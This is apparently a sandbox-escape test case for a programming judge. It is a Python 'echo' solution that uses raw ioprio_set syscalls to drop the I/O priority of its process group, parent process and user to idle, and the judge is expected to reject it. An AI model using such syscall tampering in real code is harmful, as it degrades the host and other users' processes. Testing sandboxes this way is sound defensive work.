# attack: lower the priority of input and output of its process group
# expect: WA|RV
# problem: echo

import ctypes
import os

SET, GET = {"x86_64": (251, 252), "aarch64": (30, 31)}[os.uname().machine]
OF_A_PROCESS, OF_A_GROUP, OF_A_USER, IDLE = 1, 2, 3, 3 << 13


def echo(n):
    libc = ctypes.CDLL(None, use_errno=True)
    found = libc.syscall(GET, OF_A_PROCESS, 0) == IDLE
    targets = ((OF_A_GROUP, 0), (OF_A_PROCESS, os.getppid()), (OF_A_USER, 0))
    done = [libc.syscall(SET, kind, who, IDLE) == 0 for kind, who in targets]
    return n if found or any(done) else None
